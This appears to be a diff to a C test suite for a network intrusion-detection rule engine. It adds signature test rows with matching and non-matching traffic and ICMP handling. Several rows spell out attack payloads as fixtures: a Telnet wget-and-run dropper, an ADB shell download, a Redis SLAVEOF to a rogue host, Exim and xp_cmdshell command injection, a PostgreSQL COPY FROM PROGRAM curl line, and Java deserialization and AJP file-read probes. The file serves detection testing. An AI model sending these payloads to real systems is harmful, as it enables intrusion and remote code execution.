@@ -25,7 +25,7 @@ struct part {
 };
 struct row {
     uint32_t sid;
-    const char *app; /* NULL: a TCP stream, "udp": a datagram */
+    const char *app; /* NULL: a TCP stream; "udp", "icmp": a datagram */
     uint8_t dir;
     uint16_t port;
     unsigned times; /* 0: once */
@@ -217,6 +217,26 @@ static const struct row rows[] = {
     {9000535, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/shell.php", NULL}, {"http.request_body", A64 A64 A64, "text=" A64 A64}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
     {9000536, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/g.jsp", NULL}, {"http.cookie", "JSESSIONID=1A;", "JSESSIONID=1A"}, {"http.request_body", "pass=" A64 A64 A64 "%3D", NULL}}, NULL, 0, 0},
     {9000537, "http", TC, 80, 0, {{"http.response_body", "|0d 0a|Windows IP Configuration|0d 0a 0d 0a|", "<h1>Windows IP Configuration</h1>"}}, NULL, 0, 0},
+    {9000601, "icmp", TS, 0, 0, {{"", "uid=0(root) gid=0(root)|0a|", "abcdefghijklmnopqrstuvwabcdefghi"}}, NULL, 0, 0},
+    {9000602, NULL, TS, 4545, 0, {{"", "nt authority|5c|system|0d 0a|", "the account nt authority|5c|system|0d 0a|"}}, NULL, 0, 0},
+    {9000603, "http", TS, 80, 0, {{"http.uri", "/jquery-3.3.1.min.js", NULL}, {"http.cookie", "__cfduid=" A64 A64, "__cfduid=d41d8cd98f00b204e9800998ecf8427e"}, {"http.host", "cdn.example", NULL}}, NULL, 0, 0},
+    {9000604, NULL, TS, 23, 0, {{"", "/bin/busybox MIRAI|0d 0a|", "/bin/busybox ls|0d 0a|"}}, NULL, 0, 0},
+    {9000605, NULL, TS, 23, 0, {{"", "cd /tmp || cd /var/run; wget http://192.0.2.9/b.sh; chmod 777 b.sh; sh b.sh|0d 0a|", "cd /tmp; wget http://example.com/a.tgz|0d 0a|"}}, NULL, 0, 0},
+    {9000606, NULL, TS, 5555, 0, {{"", "OPEN|01 00 00 00 00 00 00 00 20 00 00 00 00 00 00 00 b0 af ba b1|shell:cd /data/local/tmp; wget http://192.0.2.9/a", "OPEN|01 00 00 00 00 00 00 00 20 00 00 00 00 00 00 00 b0 af ba b1|shell:getprop"}}, NULL, 0, 0},
+    {9000607, NULL, TS, 6379, 0, {{"", "*3|0d 0a|$7|0d 0a|SLAVEOF|0d 0a|$10|0d 0a|192.0.2.99|0d 0a|$4|0d 0a|6666|0d 0a|", "*3|0d 0a|$7|0d 0a|SLAVEOF|0d 0a|$2|0d 0a|NO|0d 0a|$3|0d 0a|ONE|0d 0a|"}}, NULL, 0, 0},
+    {9000608, NULL, TS, 25, 0, {{"", "RCPT TO:<${run{|5c|x2Fbin|5c|x2Fsh}}@localhost>|0d 0a|", "Subject: what ${run{ means|0d 0a|"}}, NULL, 0, 0},
+    {9000609, NULL, TS, 4545, 0, {{"", "|0d 0a|Windows IP Configuration|0d 0a 0d 0a|", "How to read the Windows IP Configuration|0d 0a|"}}, NULL, 0, 0},
+    {9000610, NULL, TS, 1433, 0, {{"", "E|00|X|00|E|00|C|00 20 00|x|00|p|00|_|00|c|00|m|00|d|00|s|00|h|00|e|00|l|00|l|00 20 00|", "E|00|X|00|E|00|C|00 20 00|s|00|p|00|_|00|w|00|h|00|o|00|"}}, NULL, 0, 0},
+    {9000611, NULL, TS, 5432, 0, {{"", "Q|00 00 00 40|COPY t FROM PROGRAM 'curl 192.0.2.9'|00|", "Q|00 00 00 40|SELECT program FROM tv |00|"}}, NULL, 0, 0},
+    {9000612, NULL, TS, 1099, 0, {{"", "P|ac ed 00 05|w|22|sr|00|.sun.reflect.annotation.AnnotationInvocationHandler", "P|ac ed 00 05|w|22|sr|00|.java.util.ArrayList"}}, NULL, 0, 0},
+    {9000613, NULL, TS, 8000, 0, {{"", "JDWP-Handshake", "GET /JDWP-Handshake"}}, NULL, 0, 0},
+    {9000614, NULL, TS, 8009, 0, {{"", "|12 34 01 00 02 02|HTTP/1.1|0a 00 1f|javax.servlet.include.path_info|00 00 10|/WEB-INF/web.xml", "|12 34 01 00 02 02|HTTP/1.1|00 00 01|/index.jsp"}}, NULL, 0, 0},
+    {9000615, NULL, TS, 3389, 20, {{"", "|03 00 00 2b 26 e0 00 00 00 00 00|Cookie: mstshash=hello|0d 0a|", "|03 00 00 13 0e e0 00 00 00 00 00 01 00 08 00 03 00 00 00|"}}, NULL, 0, 0},
+    {9000616, NULL, TC, 3306, 15, {{"", "|48 00 00 02 ff 15 04|#28000Access denied for user 'root'@'192.0.2.9'", "|07 00 00 02 00 00 00 02 00 00 00|"}}, NULL, 0, 0},
+    {9000617, NULL, TC, 143, 12, {{"", "a NO [AUTHENTICATIONFAILED] Authentication failed.|0d 0a|", "a OK [CAPABILITY IMAP4rev1] Logged in|0d 0a|"}}, NULL, 0, 0},
+    {9000618, "http", TS, 80, 25, {{"http.method", "POST", NULL}, {"http.uri", "/wp-login.php", "/wp-admin/admin-ajax.php"}}, NULL, 0, 0},
+    {9000619, "http", TS, 80, 0, {{"http.user_agent", "Microsoft-CryptoAPI/10.0", NULL}, {"http.uri", "/a.exe", "/pki/root.crl"}}, NULL, 0, 0},
+    {9000620, "http", TC, 80, 0, {{"file.data", "L|00 00 00 01 14 02 00 00 00 00 00 c0 00 00 00 00 00 00|F|9b 00 08 00|", "L|00 00 00 02 14 02 00|"}}, NULL, 0, 0},
 };
 
 struct world {
@@ -296,13 +316,18 @@ static void set_uuid(const char *text, uint8_t out[16])
         }
 }
 
+static bool is_datagram(const struct row *r)
+{
+    return strcmp(r->app, "udp") == 0 || strcmp(r->app, "icmp") == 0;
+}
+
 /* Play one row as traffic of a flow of its own; how often its rule alerted. */
 static unsigned play(struct world *w, const struct row *r, bool is_yes, uint64_t id)
 {
     static uint8_t bytes[BUFS][TEXT_MAX];
     struct mmr_flow flow = {.struct_size = sizeof flow, .ip_version = 4, .proto = IPPROTO_TCP, .id = id,
                             .tcp_state = MMR_TCP_ESTABLISHED, .client_port = 50000, .server_port = r->port,
-                            .packets = {2, 2}, .app = r->app && strcmp(r->app, "udp") != 0 ? r->app : NULL};
+                            .packets = {2, 2}, .app = r->app && !is_datagram(r) ? r->app : NULL};
     struct mmr_frame frame = {.struct_size = sizeof frame, .time_ns = (int64_t)id * 1000000000000, .index = id};
     struct mmr_packet p = {.struct_size = sizeof p, .frame = &frame, .flow = &flow, .dir = r->dir, .ip_version = 4,
                            .proto = IPPROTO_TCP};
@@ -324,6 +349,10 @@ static unsigned play(struct world *w, const struct row *r, bool is_yes, uint64_t
     w->hits = 0;
     for (unsigned i = 0; i < (r->times ? r->times : 1); i++) {
         frame.index++;
+        if (!r->app && i) { /* what is counted comes in connections of its own */
+            mmr_rules_flow_end(w->engine, &flow);
+            flow.id += 1000000;
+        }
         if (!r->app) {
             struct mmr_chunk c = {.struct_size = sizeof c, .flow = &flow, .packet = &p, .data = bytes[0],
                                   .len = (uint32_t)bufs[0].len, .dir = r->dir};
@@ -331,8 +360,8 @@ static unsigned play(struct world *w, const struct row *r, bool is_yes, uint64_t
             p.payload_len = c.len;
             mmr_rules_packet(w->engine, &p);
             mmr_rules_chunk(w->engine, &c);
-        } else if (strcmp(r->app, "udp") == 0) {
-            flow.proto = p.proto = IPPROTO_UDP;
+        } else if (is_datagram(r)) {
+            flow.proto = p.proto = strcmp(r->app, "udp") == 0 ? IPPROTO_UDP : IPPROTO_ICMP;
             flow.tcp_state = MMR_TCP_NONE;
             p.payload = bytes[0];
             p.payload_len = (uint32_t)bufs[0].len;
